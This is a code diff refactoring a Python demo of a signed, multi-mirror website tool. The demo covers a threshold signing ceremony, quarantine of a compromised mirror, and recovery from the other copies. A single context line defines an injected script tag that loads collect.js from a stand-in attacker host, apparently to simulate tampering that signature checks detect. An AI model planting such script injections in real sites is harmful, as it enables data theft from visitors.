@@ -45,11 +45,21 @@ _INJECTED = b'<script src="https://evil.example/collect.js"></script>'
 _HOLDERS = ("keyholder-1", "keyholder-2", "keyholder-3", "editor", "publisher")
 
 _NEWS = {
-    "facts.toml": 'published = {day}\nform = "statement"\n',
-    "en.md": '+++\ntitle = "We are still here"\nsummary = "After the attack on one of our mirrors, the site goes on."\n+++\n'
-    "Our site is served from several places. What is ours is signed; what is not signed is not ours.\n",
-    "zh-Hans.md": '+++\ntitle = "我们仍在这里"\nsummary = "一个镜像遭到攻击之后，网站继续存在。"\n+++\n'
-    "我们的网站由多处同时提供。凡是我们的，都有签名；没有签名的，就不是我们的。\n",
+    "facts.toml": """published = {day}
+form = "statement"
+""",
+    "en.md": """+++
+title = "We are still here"
+summary = "Our site is served from several places now."
++++
+What is ours is signed; what is not signed is not ours.
+""",
+    "zh-Hans.md": """+++
+title = "我们仍在这里"
+summary = "我们的网站现在由多处同时提供。"
++++
+凡是我们的，都有签名；没有签名的，就不是我们的。
+""",
 }
 
 
@@ -80,6 +90,7 @@ class Demo:
         self._servers: dict[str, LocalServer] = {}
         self._signers: dict[str, CryptoSigner] = {}
         self._kept: tuple[Request, Sequence[Answer]] | None = None
+        self._trust: Trust | None = None
         self.ended = Ended()
 
     def run(self) -> Ended:
@@ -116,17 +127,19 @@ class Demo:
         """Mirrors go into the settings (where to write) and into the register (where readers may read)."""
         settings, register = self._site / "stillhere.toml", self._site / "registers" / "addresses.toml"
         own, listed = (self._example / path.relative_to(self._site) for path in (settings, register))
-        rows = [(name, self._workshop / f"mirror-{name}", self._servers[name].address) for name in names]
-        mirrors = "".join(
-            f'\n[[mirror]]\nname = "{name}"\nkind = "folder"\npath = "{folder}"\naddress = "{address}"\n'
-            for name, folder, address in rows
-        )
-        addresses = "".join(
-            f'\n[[address]]\nurl = "{address}"\nstate = "mirror"\nsince = {self._before.date()}\n'
-            for _, _, address in rows
-        )
+        mirrors = "".join(self._mirror_row(name) for name in names)
+        addresses = "".join(self._address_row(name) for name in names)
         files.write_atomic(settings, own.read_bytes() + mirrors.encode())
         files.write_atomic(register, listed.read_bytes() + addresses.encode())
+
+    def _address_row(self, name: str) -> str:
+        return (
+            f'\n[[address]]\nurl = "{self._servers[name].address}"\nstate = "mirror"\nsince = {self._before.date()}\n'
+        )
+
+    def _mirror_row(self, name: str) -> str:
+        folder, address = self._workshop / f"mirror-{name}", self._servers[name].address
+        return f'\n[[mirror]]\nname = "{name}"\nkind = "folder"\npath = "{folder}"\naddress = "{address}"\n'
 
     # 2
     def _ceremony(self) -> None:
@@ -142,6 +155,7 @@ class Demo:
         request = signing.begin_ceremony(self._site, circle, self._before)
         answers = [requests.sign(request, name, self._signers[name]) for name in ("keyholder-1", "keyholder-3")]
         signing.finish(self._site, request, answers, [], self._before)
+        self._trust = Store(Places(self._site)).trust()  # what every stranger is given, on a card or a stick
         self._tell("demo-ceremony", holders=3, threshold=2, note=keys.THROW_AWAY)
 
     # 3
@@ -166,8 +180,8 @@ class Demo:
             self._tell("demo-verdict", mirror=name.upper(), observation=seen)
 
     def _look(self, names: str, now: datetime, store: Store | None = None) -> dict[str, Observation]:
-        trust = Trust(Store(Places(self._site)).trust().root)
-        seen = watch([self._servers[name].address for name in names], trust, now, store=store, seconds=20)
+        addresses = [self._servers[name].address for name in names]
+        seen = watch(addresses, self._root_of_trust, now, store=store, seconds=20)
         return dict(zip(names, seen, strict=True))
 
     # 5
@@ -192,6 +206,8 @@ class Demo:
             self._tell("demo-verdict", mirror=name.upper(), observation=observation)
 
     def _quarantine(self) -> None:
+        (self._workshop / "mirror-d").mkdir()
+        self._servers["d"] = LocalServer(self._workshop / "mirror-d")  # a spare one takes its place
         register = self._site / "registers" / "addresses.toml"
         address = self._servers["b"].address
         defanged = address.removeprefix("http://").rstrip("/").replace(".", "[.]")
@@ -199,7 +215,7 @@ class Demo:
         text = register.read_text("utf-8").replace(
             f'url = "{address}"\nstate = "mirror"', f'url = "{defanged}"\n{reasons}\nstate = "compromised"'
         )
-        files.write_atomic(register, text.encode())
+        files.write_atomic(register, (text + self._address_row("d")).encode())
         request = signing.begin_addresses(self._site, self._now)
         answers = [requests.sign(request, name, self._signers[name]) for name in ("keyholder-2",)]
         missing = signing.finish(self._site, request, answers, self._online, self._now).missing
@@ -214,9 +230,8 @@ class Demo:
         lost = {path: (self._site / path).read_bytes() for path in self._own_sources()}
         shutil.rmtree(self._site)
         self._tell("demo-lost", files=len(lost))
-        trust = Trust(self._first_root())
         places = [self._servers[name].address for name in "cb"]
-        restored = rescue(places, self._site, trust)
+        restored = rescue(places, self._site, self._root_of_trust)
         names = {self._servers[name].address: name.upper() for name in "bc"}
         for copy, count in sorted(restored.by_copy.items()):
             self._tell("demo-recovered-from", mirror=names[copy], count=count)
@@ -230,9 +245,11 @@ class Demo:
     def _own_sources(self) -> list[str]:
         return [path for path in files.walk(self._site, skip=(".stillhere", "signed")) if path != ".gitignore"]
 
-    def _first_root(self) -> bytes:
-        """What every stranger has: the root of trust, here from a mirror's own folder as it was at the ceremony."""
-        return (self._workshop / "mirror-c" / ".well-known/stillhere/metadata/1.root.json").read_bytes()
+    @property
+    def _root_of_trust(self) -> Trust:
+        if self._trust is None:
+            raise Problem("no-keys-yet", folder=str(self._site))
+        return self._trust
 
     def _compare(self, lost: dict[str, bytes]) -> bool:
         """Sources equal, byte for byte, except the register, whose newest version no copy ever carried."""
@@ -256,16 +273,13 @@ class Demo:
         return differing == ["registers/addresses.toml"]
 
     def _come_back(self) -> None:
-        """The keyholders kept the request and the answers they gave: the quarantine comes back without a new signature."""
+        """The keyholders kept the request and their answers: the quarantine comes back without a new signature."""
         if self._kept is None:
             raise Problem("no-keys-yet", folder=str(self._site))
         request, answers = self._kept
         signing.finish(self._site, request, answers, self._online, self._now)
-        (self._workshop / "mirror-d").mkdir()
-        self._servers["d"] = LocalServer(self._workshop / "mirror-d")
         settings = self._site / "stillhere.toml"
-        row = f'\n[[mirror]]\nname = "d"\nkind = "folder"\npath = "{self._workshop / "mirror-d"}"\naddress = "{self._servers["d"].address}"\n'
-        files.write_atomic(settings, settings.read_bytes() + row.encode())
+        files.write_atomic(settings, settings.read_bytes() + self._mirror_row("d").encode())
         self._say_published(publish(self._site, self._now, only=["d"]))
         for name, seen in self._look("d", self._now, Store(Places(self._site))).items():
             self.ended.final[name] = seen.verdict
